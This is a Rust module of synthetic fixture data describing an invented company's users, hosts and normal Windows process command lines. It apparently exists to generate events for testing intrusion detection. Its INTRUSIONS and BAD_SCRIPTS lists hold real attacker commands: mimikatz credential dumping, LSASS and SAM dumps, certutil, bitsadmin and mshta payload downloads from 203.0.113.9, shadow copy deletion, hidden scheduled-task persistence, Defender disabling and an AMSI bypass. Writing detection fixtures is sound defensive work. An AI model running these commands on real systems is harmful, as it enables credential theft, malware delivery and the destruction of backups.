//! The invented company that the events tell of: its people, machines, programs, and what an
//! intruder would type there.

/// Accounts.
pub(super) const USERS: &[&str] = &[
    "alice.meyer",
    "b.okafor",
    "carla.rossi",
    "d.ivanov",
    "erin.walsh",
    "f.tanaka",
    "g.silva",
    "SYSTEM",
    "LOCAL SERVICE",
    "NETWORK SERVICE",
    "svc_backup",
    "svc_sql",
    "svc_deploy",
    "admin.t1",
];

/// Windows machines.
pub(super) const HOSTS: &[&str] = &[
    "WS-0142.corp.example.com",
    "WS-0377.corp.example.com",
    "WS-0911.corp.example.com",
    "SRV-APP03.corp.example.com",
    "SRV-SQL01.corp.example.com",
    "DC01.corp.example.com",
    "DC02.corp.example.com",
    "SRV-FILE02.corp.example.com",
];

/// A program as Windows describes it: image, command line, original name, description, company.
pub(super) type Program = (
    &'static str,
    &'static str,
    &'static str,
    &'static str,
    &'static str,
);

const MICROSOFT: &str = "Microsoft Corporation";

/// What runs all day.
pub(super) const PROGRAMS: &[&Program] = &[
    &(
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
        "svchost.exe",
        "Host Process for Windows Services",
        MICROSOFT,
    ),
    &(
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\System32\svchost.exe -k LocalSystemNetworkRestricted -p -s WdiSystemHost",
        "svchost.exe",
        "Host Process for Windows Services",
        MICROSOFT,
    ),
    &(
        r"C:\Windows\System32\conhost.exe",
        r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
        "CONHOST.EXE",
        "Console Window Host",
        MICROSOFT,
    ),
    &(
        r"C:\Windows\System32\taskhostw.exe",
        r"taskhostw.exe Install $(Arg0)",
        "taskhostw.exe",
        "Host Process for Windows Tasks",
        MICROSOFT,
    ),
    &(
        r"C:\Windows\System32\backgroundTaskHost.exe",
        r#""C:\Windows\system32\backgroundTaskHost.exe" -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca"#,
        "BackgroundTaskHost.exe",
        "Background Task Host",
        MICROSOFT,
    ),
    &(
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US --device-scale-factor=1.25 --num-raster-threads=4 --renderer-client-id=118 --time-ticks-at-unix-epoch=-1772600000000000 --launch-time-ticks=66710345678 --field-trial-handle=3844,i,1462,262144 --variations-seed-version --mojo-platform-channel-handle=5720 /prefetch:1"#,
        "chrome.exe",
        "Google Chrome",
        "Google LLC",
    ),
    &(
        r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe",
        r#""C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-GB --service-sandbox-type=none --mojo-platform-channel-handle=2204"#,
        "msedge.exe",
        "Microsoft Edge",
        MICROSOFT,
    ),
    &(
        r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
        r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" -Embedding"#,
        "Outlook.exe",
        "Microsoft Outlook",
        MICROSOFT,
    ),
    &(
        r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
        r#""C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" "C:\Users\alice.meyer\Documents\budget 2026.xlsx""#,
        "Excel.exe",
        "Microsoft Excel",
        MICROSOFT,
    ),
    &(
        r"C:\Users\d.ivanov\AppData\Local\Programs\Microsoft VS Code\Code.exe",
        r#""C:\Users\d.ivanov\AppData\Local\Programs\Microsoft VS Code\Code.exe" --type=extensionHost --reporter-url=https://telemetry.example.com"#,
        "electron.exe",
        "Visual Studio Code",
        MICROSOFT,
    ),
    &(
        r"C:\Program Files\Git\cmd\git.exe",
        r"git.exe fetch --prune --tags origin",
        "git.exe",
        "Git for Windows",
        "The Git Development Community",
    ),
    &(
        r"C:\Program Files\nodejs\node.exe",
        r#""C:\Program Files\nodejs\node.exe" "C:\src\portal\node_modules\vite\bin\vite.js" build --mode production"#,
        "node.exe",
        "Node.js JavaScript Runtime",
        "Node.js",
    ),
    &(
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r#"powershell.exe -NoLogo -Command "Get-ChildItem -Path D:\Reports -Filter *.csv | Measure-Object""#,
        "PowerShell.EXE",
        "Windows PowerShell",
        MICROSOFT,
    ),
    &(
        r"C:\Windows\System32\cmd.exe",
        r#"C:\Windows\system32\cmd.exe /d /s /c "npm run test -- --reporter dot""#,
        "Cmd.Exe",
        "Windows Command Processor",
        MICROSOFT,
    ),
    &(
        r"C:\Windows\System32\wbem\WmiPrvSE.exe",
        r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
        "Wmiprvse.exe",
        "WMI Provider Host",
        MICROSOFT,
    ),
    &(
        r"C:\Program Files\Acme Backup\agent.exe",
        r#""C:\Program Files\Acme Backup\agent.exe" run --job nightly --target \\SRV-FILE02\backup$ --compress 6"#,
        "agent.exe",
        "Acme Backup Agent",
        "Acme Software",
    ),
];

/// What an intruder runs; public rules know all of these.
pub(super) const INTRUSIONS: &[&Program] = &[
    &(
        r"C:\Users\Public\m.exe",
        r#"m.exe "privilege::debug" "sekurlsa::logonpasswords" exit"#,
        "mimikatz.exe",
        "mimikatz for Windows",
        "gentilkiwi (Benjamin DELPY)",
    ),
    &(
        r"C:\Windows\System32\certutil.exe",
        r"certutil.exe -urlcache -split -f http://203.0.113.9/update.txt C:\Users\Public\update.exe",
        "CertUtil.exe",
        "CertUtil.exe",
        MICROSOFT,
    ),
    &(
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r"powershell.exe -nop -w hidden -ep bypass -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        "PowerShell.EXE",
        "Windows PowerShell",
        MICROSOFT,
    ),
    &(
        r"C:\Windows\System32\rundll32.exe",
        r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 644 C:\Windows\Temp\lsass.dmp full",
        "RUNDLL32.EXE",
        "Windows host process (Rundll32)",
        MICROSOFT,
    ),
    &(
        r"C:\Windows\System32\vssadmin.exe",
        r"vssadmin.exe delete shadows /all /quiet",
        "VSSADMIN.EXE",
        "Command Line Interface for Volume Shadow Copy Service",
        MICROSOFT,
    ),
    &(
        r"C:\Windows\System32\net.exe",
        r#"net  group "domain admins" /domain"#,
        "net.exe",
        "Net Command",
        MICROSOFT,
    ),
    &(
        r"C:\Windows\System32\whoami.exe",
        "whoami /all",
        "whoami.exe",
        "whoami - displays logged on user information",
        MICROSOFT,
    ),
    &(
        r"C:\Windows\System32\reg.exe",
        r"reg  save HKLM\SAM C:\Users\Public\sam.hive",
        "reg.exe",
        "Registry Console Tool",
        MICROSOFT,
    ),
    &(
        r"C:\Windows\System32\schtasks.exe",
        r#"schtasks /create /sc minute /mo 5 /tn Updater /tr "powershell -w hidden C:\Users\Public\u.ps1" /ru SYSTEM"#,
        "schtasks.exe",
        "Task Scheduler Configuration Tool",
        MICROSOFT,
    ),
    &(
        r"C:\Windows\System32\mshta.exe",
        r#"mshta.exe vbscript:Close(Execute("GetObject(""script:http://203.0.113.9/a.sct"")"))"#,
        "MSHTA.EXE",
        "Microsoft HTML Application host",
        MICROSOFT,
    ),
    &(
        r"C:\Windows\System32\bitsadmin.exe",
        r"bitsadmin /transfer job /download /priority high http://203.0.113.9/b.exe C:\ProgramData\b.exe",
        "bitsadmin.exe",
        "BITS administration utility",
        MICROSOFT,
    ),
    &(
        r"C:\Windows\System32\nltest.exe",
        "nltest /domain_trusts /all_trusts",
        "nltestrk.exe",
        "Microsoft Logon Server Test Utility",
        MICROSOFT,
    ),
];

/// Parents of what runs.
pub(super) const PARENTS: &[&str] = &[
    r"C:\Windows\System32\services.exe",
    r"C:\Windows\explorer.exe",
    r"C:\Windows\System32\svchost.exe",
    r"C:\Program Files\Google\Chrome\Application\chrome.exe",
    r"C:\Windows\System32\cmd.exe",
    r"C:\Program Files\nodejs\node.exe",
];

/// Parents of what should not run.
pub(super) const BAD_PARENTS: &[&str] = &[
    r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
    r"C:\Windows\System32\wscript.exe",
    r"C:\Windows\System32\cmd.exe",
    r"C:\inetpub\w3wp.exe",
];

/// A script block as PowerShell logs it.
pub(super) const SCRIPT: &str = r#"function Get-DiskReport {
    [CmdletBinding()]
    param([string[]]$ComputerName = $env:COMPUTERNAME, [int]$Threshold = 15)
    foreach ($computer in $ComputerName) {
        Get-CimInstance -ClassName Win32_LogicalDisk -Filter "DriveType=3" -ComputerName $computer |
            Select-Object DeviceID, @{n='FreeGB';e={[math]::Round($_.FreeSpace / 1GB, 1)}} |
            Where-Object { $_.FreeGB -lt $Threshold } |
            Export-Csv -Path "D:\Reports\disk.csv" -Append -NoTypeInformation
    }
}
"#;

/// What an intruder pastes into a PowerShell.
pub(super) const BAD_SCRIPTS: &[&str] = &[
    "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/Invoke-Mimikatz.ps1'); Invoke-Mimikatz -DumpCreds",
    "Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath 'C:\\Users\\Public'",
    "Get-ADUser -Filter * -Properties ServicePrincipalName | Where-Object { $_.ServicePrincipalName }",
    "$s=[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils'); $s.GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
];
